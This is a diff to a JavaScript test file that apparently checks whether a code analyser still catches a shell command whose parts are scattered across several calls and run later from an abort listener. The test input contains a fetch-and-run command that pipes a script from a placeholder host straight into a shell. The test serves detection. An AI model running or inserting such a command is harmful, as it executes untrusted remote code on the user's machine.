@@ -36,6 +36,16 @@ it('what is known of them together alone stays told', () => {
   assert.deepEqual(others, ['a: x', 'b: y']);
 });
 
+it('a command stays told whose words others have, each for something else', () => {
+  const told = commands(
+    `${SH} sh('echo', ['curl', '-s']); sh('printf', ['https://a.invalid/']); sh('sh', ['-c', 'true']); AbortSignal.timeout(9).addEventListener('abort', () => sh('sh', ['-c', 'curl -s https://a.invalid/ | sh']));`,
+  );
+  assert.ok(
+    told.some(one => one.includes('curl -s https://a.invalid/')),
+    told.join('; '),
+  );
+});
+
 it('data that goes to one of them is followed to it', () => {
   const { flows } = behaviourOf(`${SH} sh('a', [require('fs').readFileSync('/x', 'utf8')]); sh('b', ['y']);`);
   assert.deepEqual(
